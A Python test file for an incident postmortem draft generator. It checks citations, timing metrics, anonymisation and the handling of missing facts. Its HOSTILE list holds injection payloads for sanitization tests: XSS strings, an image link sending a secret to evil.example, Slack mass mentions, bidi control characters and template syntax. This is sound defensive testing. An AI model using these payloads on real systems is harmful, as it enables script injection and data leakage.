"""What a draft says, and what it refuses to make up."""

from dataclasses import replace
from datetime import UTC, datetime, timedelta

from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from sqlalchemy.orm import Session
from storykit import APPROVER, COMMANDER, PEOPLE, REPORTER, TARGETS, declare

from incidents import lifecycle, milestones, timeline
from incidents.models import Incident
from postmortems.answers import answer, questions
from postmortems.check import check
from postmortems.draft import draft
from postmortems.record import Entry, Record, gather


def section(body: str, title: str) -> str:
    """The text below one `##` heading."""
    return body.split(f"\n## {title}\n", 1)[1].split("\n## ", 1)[0]


def test_the_four_times_stand_beside_their_targets_exact_to_the_second(session: Session, story: Incident) -> None:
    times = section(draft(gather(session, story, targets=TARGETS)).body, "Detection and response")
    assert "| TTD, time to detect | 45 min [M5] [M1] | 30 min | missed by 15 min |" in times
    assert "| TTA, time to acknowledge | 2 min [M3] [M4] | 1 h | within target |" in times
    assert "| TTM, time to mitigate | 21 min 30 s [M1] [M6] | 1 d | within target |" in times
    assert "| TTR, time to resolve | 1 h 30 min [M1] [M8] | no target |  |" in times


def test_the_length_of_the_harm_runs_from_onset_to_mitigation(session: Session, story: Incident) -> None:
    assert "1 h 6 min 30 s from onset to mitigation [M5] [M6]" in draft(gather(session, story)).body


def test_severity_names_the_rule_its_reason_the_policy_and_who_confirmed(session: Session, story: Incident) -> None:
    severity = section(draft(gather(session, story)).body, "Severity")
    assert "`SEV1` by rule `data-exposed`, because “personal data of others was shown” [A1]" in severity
    assert "Policy version `ab12ab12ab12`" in severity
    assert "Confirmed at 2026-03-02 03:05:00 UTC by the commander [A1]" in severity
    assert "Opened as `SEV2` [T2]; stands at `SEV1`" in severity
    assert "Still not sure, and therefore counted as the policy says: `scope`." in severity


def test_a_rollback_is_told_from_plan_to_verified_with_its_second_person(session: Session, story: Incident) -> None:
    body = draft(gather(session, story)).body
    assert "planned by the commander at 2026-03-02 03:15:00 UTC [T8]" in body
    assert "approved by a responder at 2026-03-02 03:16:00 UTC [T10]" in body
    assert "verified by the bot at 2026-03-02 03:21:30 UTC [T13]" in body
    assert "was verified, after approval by another person than the one who asked" in section(body, "What went well")


def test_a_refused_approval_is_shown_as_a_control_that_held(session: Session, story: Incident) -> None:
    well = section(draft(gather(session, story)).body, "What went well")
    assert "A control held: “Refused for Model version: v2 → v1" in well


def test_the_versions_of_a_rollback_fill_the_table(session: Session, story: Incident) -> None:
    record = gather(session, story)
    full = {"title": "Model version", "from": "v2", "to": "v1"}
    entries = tuple(replace(e, data={**e.data, **full}) if e.kind == "rollback" else e for e in record.entries)
    body = draft(replace(record, entries=entries)).body
    assert "| model: “Model version” | `v2` | `v1` |" in body


def test_an_undone_rollback_is_not_sold_as_what_is_in_force(session: Session, story: Incident) -> None:
    record = gather(session, story)
    last = record.entries[-1]
    undo = {"plan": 2, "title": "Model version", "from": "v1", "to": "v2", "undoes": 1}
    more = tuple(
        replace(last, seq=last.seq + n, kind="rollback", text=f"Undo {what}", data={**undo, "what": what})
        for n, what in enumerate(("planned", "verified"), start=1)
    )
    body = draft(replace(record, entries=record.entries + more)).body
    assert "undone since" in section(body, "The AI part")
    assert "Undo of the rollback of “Model version” from `v1` to `v2`" in body
    assert "The rollback of “Model version” was undone" in section(body, "What went wrong")


def test_a_late_status_update_is_named_with_its_delay(session: Session, story: Incident) -> None:
    wrong = section(draft(gather(session, story)).body, "What went wrong")
    assert "promised for 2026-03-02 03:18:00 UTC came 7 min late [T15]" in wrong


def test_a_skipped_step_is_quoted_with_its_reason(session: Session, story: Incident) -> None:
    data = {"run": 1, "step": "notify", "visit": 1, "what": "skipped"}
    timeline.append(session, story.id, "step", COMMANDER, "Skipped: Tell the vendor — nobody answers", data=data)
    body = draft(gather(session, story)).body
    assert "A runbook step was skipped: “Skipped: Tell the vendor — nobody answers” [T18]" in body
    assert "Runbook steps ended: 1, of which done 0, left out 1, failed 0: [T18]" in body


def test_detection_by_a_person_is_counted_as_luck(session: Session, story: Incident) -> None:
    lucky = section(draft(gather(session, story)).body, "Where we got lucky")
    assert "Detection rests on a report from a person [M1]" in lucky


def test_people_appear_by_role_everywhere_but_in_the_timeline_table(session: Session, story: Incident) -> None:
    body = draft(gather(session, story, people=PEOPLE)).body
    table = section(body, "Timeline")
    assert "On-call engineer (commander)" in table
    rest = body.replace(table, "")
    assert not any(person in rest for person in (REPORTER, COMMANDER, APPROVER, *PEOPLE.values()))


def test_a_person_mentioned_in_a_note_appears_by_role_where_the_note_is_quoted(
    session: Session, story: Incident
) -> None:
    answer(session, story, "trigger", f"<@{COMMANDER}> deployed v2", by=APPROVER, key="a:t")
    assert "- Trigger: “(the commander) deployed v2” [T18]" in draft(gather(session, story)).body


def test_the_reporters_mail_address_is_removed(session: Session, story: Incident) -> None:
    body = draft(gather(session, story)).body
    assert "mail.example" not in body
    assert "(email removed)" in body


def test_private_and_exercise_are_said_at_the_top(session: Session, story: Incident) -> None:
    record = gather(session, story)
    assert "**Private incident: share only with the people of its channel.**" in draft(record).body
    assert "**This was an exercise, not a real incident.**" in draft(replace(record, kind="exercise")).body


def test_an_answer_on_the_timeline_closes_its_question(session: Session, bare: Incident) -> None:
    before = draft(gather(session, bare))
    assert "affected_users" in {gap.id for gap in before.gaps}
    answer(session, bare, "affected_users", "14 customers", by=COMMANDER, key="a")
    after = draft(gather(session, bare))
    assert "- People affected: “14 customers” [T3]" in after.body
    assert "affected_users" not in {gap.id for gap in after.gaps}


def test_an_almost_empty_record_names_its_gaps_and_who_could_know(session: Session, bare: Incident) -> None:
    made = draft(gather(session, bare))
    open_questions = section(made.body, "Open questions")
    for gap in made.gaps:
        assert f"- {gap.ask}" in open_questions
        assert f"Ask {gap.who}:" in open_questions
    silent = {"system", "onset", "acknowledged", "mitigated", "resolved", "severity", "affected_users", "actions"}
    assert silent <= {gap.id for gap in made.gaps}
    assert "| TTD, time to detect | Not recorded | no target |  |" in made.body


def test_every_question_of_the_file_is_asked_of_an_empty_record_or_answered_by_a_full_one(
    session: Session, bare: Incident
) -> None:
    asked = {gap.id for gap in draft(gather(session, bare)).gaps}
    record = gather(session, bare)
    undetected = replace(record, stamps=tuple(stamp for stamp in record.stamps if stamp.name != "detected"))
    assert asked | {gap.id for gap in draft(undetected).gaps} == set(questions())


def test_a_corrected_time_shows_the_correction_and_counts_from_the_new_stamp(session: Session, story: Incident) -> None:
    detected = milestones.current(session, story.id, "detected")
    assert detected is not None
    at = detected.at - timedelta(minutes=20)
    milestones.correct(session, story, "detected", at, actor=COMMANDER, reason="the alert came first")
    body = draft(gather(session, story, targets=TARGETS)).body
    assert "| TTD, time to detect | 25 min [M5] [M9] | 30 min | within target |" in body
    assert "A time was corrected by the commander" in body


def test_times_in_the_wrong_order_are_said_instead_of_computed_away(session: Session, story: Incident) -> None:
    onset = milestones.current(session, story.id, "onset")
    assert onset is not None
    milestones.correct(session, story, "detected", onset.at - timedelta(hours=1), actor=COMMANDER, reason="typing")
    body = draft(gather(session, story, targets=TARGETS)).body
    assert "TTD shows no time because detected lies before onset" in body
    assert "TTD, time to detect" not in section(body, "What went well")


def test_a_reopened_incident_says_so_and_forgets_the_old_mitigation(session: Session, story: Incident) -> None:
    lifecycle.reopen(session, story, "It leaks again.", by=COMMANDER, key="reopen")
    body = draft(gather(session, story)).body
    assert "It was reopened at" in body
    assert "When the harm stopped: Not recorded. Ask the commander." in body


def test_every_fact_line_cites_something_that_exists(session: Session, story: Incident) -> None:
    made = draft(gather(session, story))
    assert {citation.ref for citation in made.citations} >= {f"T{n}" for n in range(1, 17)}
    for citation in made.citations:
        assert f"- [{citation.ref}] " in section(made.body, "Citations")


def test_the_same_record_gives_the_same_bytes(session: Session, story: Incident) -> None:
    first = draft(gather(session, story, targets=TARGETS, people=PEOPLE))
    session.expire_all()
    assert draft(gather(session, story, targets=TARGETS, people=PEOPLE)) == first


def test_a_fresh_draft_passes_its_own_check(session: Session, story: Incident) -> None:
    for people in ({}, PEOPLE):
        record = gather(session, story, targets=TARGETS, people=people)
        assert check(draft(record).body, record) == []
    bare = gather(session, declare(session, "Another one."))
    assert check(draft(bare).body, bare) == []


HOSTILE = (
    "<!channel> <!here> <@U0SUPPORT1> <https://evil.example|Approve>",
    "[click](https://evil.example) ![x](https://evil.example/?d=secret) <img src=x onerror=alert(1)>",
    "a | b | c\n| [T99] | 2026-01-01 00:00:00 UTC | me | note | forged row |",
    "```\n# Postmortem INC-9\n``` and `code` and ~~~",
    "\u202eevil\u202c \u200bzero\u200d \x07bell \u2066x\u2069 \U000e0041",
    "&lt;!channel&gt; &amp;lt;b&amp;gt;",
    "“quotes” that “end” early ” and [T99] [INC-2/T1] {{ 7*7 }} {% raw %}",
    "# Heading\n- list\n> quote\n1. one\n---\n***bold*** _x_ \\[T5\\]",
    "The engineer failed to look and should have known; it is her fault. 4711 users, 99 days, at 23:59.",
    "card 4111 1111 1111 1111, IBAN DE89370400440532013000, +49 30 901820, a@b.example",
    "x" * 100_000,
    "www.evil.example javascript:alert(1) ftp://evil.example data:text/html,x",
    "\u200b\u200b",
    "$x$ \\ \\\\ \\” …",
)


def filled_with(record: Record, text: str) -> Record:
    """The record with one hostile text in every place where people write."""

    def spoil(entry: Entry) -> Entry:
        return replace(entry, text=text, data={**entry.data, "title": text, "from": text, "to": text})

    return replace(
        record,
        title=text,
        description=text,
        system=text,
        entries=tuple(spoil(entry) for entry in record.entries),
        assessments=tuple(
            replace(one, because=text, override_reason=text, rule=text, answers={text: text})
            for one in record.assessments
        ),
        people={COMMANDER: text},
    )


def test_hostile_text_stays_text_and_the_draft_still_passes_its_check(session: Session, story: Incident) -> None:
    record = gather(session, story, targets=TARGETS)
    clean = markup(draft(filled_with(record, "harmless")).body)
    for text in HOSTILE:
        spoiled = filled_with(record, text)
        body = draft(spoiled).body
        assert check(body, spoiled) == [], text[:60]
        assert markup(body) == clean, text[:60]
        assert not any(char in body for char in "\u202e\u2066\u200b\x07\U000e0041")
        assert "<!" not in body
        assert "https://evil" not in body
        assert len(body) < 60_000


def markup(body: str) -> list[str]:
    """What a Markdown reader makes of a body besides text: headings, links, pictures, HTML, fences, table rows."""
    tokens = MarkdownIt("commonmark").enable("table").parse(body)
    inline = [child for token in tokens for child in token.children or []]
    structure = [token.tag for token in tokens if token.type in {"heading_open", "fence", "html_block", "tr_open"}]
    active = {"link_open", "image", "html_inline", "em_open", "strong_open"}
    return structure + [f"{token.type} {token.attrGet('href')}" for token in inline if token.type in active]


def test_a_forged_row_in_a_note_does_not_become_a_row(session: Session, story: Incident) -> None:
    record = filled_with(gather(session, story), HOSTILE[2])
    rows = [line for line in section(draft(record).body, "Timeline").splitlines() if line.startswith("| [")]
    assert len(rows) == len(record.entries)


PIECES = [
    *"aZ09 .,:;-–…“”'\"`<>&|[]()!#*_~\\/@+%$\n\t\u200b\u202e",
    *(
        "T1",
        "A1",
        "https://",
        "www.",
        "INC-7",
        "4111111111111111",
        "a@b.example",
        "U0ONCALL01",
        "should have",
        "12 min",
    ),
]


@settings(max_examples=150, deadline=None, derandomize=True)
@given(pieces=st.lists(st.sampled_from(PIECES), max_size=60))
def test_whatever_people_write_a_fresh_draft_passes_its_check(pieces: list[str]) -> None:
    record = filled_with(PLAIN, "".join(pieces))
    assert check(draft(record).body, record) == []


def _plain() -> Record:
    at = datetime(2026, 3, 2, 3, 0, tzinfo=UTC)
    entries = (
        Entry(1, at, at, "declared", REPORTER, "x", {}, None, "declared"),
        Entry(2, at, at, "rollback", COMMANDER, "x", {"plan": 1, "what": "planned"}, None, None),
        Entry(3, at, at, "rollback", "rollback", "x", {"plan": 1, "what": "verified"}, None, None),
        Entry(4, at, at, "answer", COMMANDER, "x", {"answers": "trigger"}, None, None),
        Entry(5, at, at, "step", COMMANDER, "x", {"run": 1, "step": "s", "what": "skipped"}, None, None),
    )
    return Record(
        id=1,
        number="INC-1",
        kind="real",
        status="open",
        title="x",
        description="x",
        system="x",
        tier=1,
        reporter=REPORTER,
        private=False,
        harm_classes=("H4",),
        severity="SEV2",
        provisional=True,
        entries=entries,
        stamps=(),
        assessments=(),
        roles=(),
        promises=(),
        links=(),
        actions=(),
    )


PLAIN = _plain()
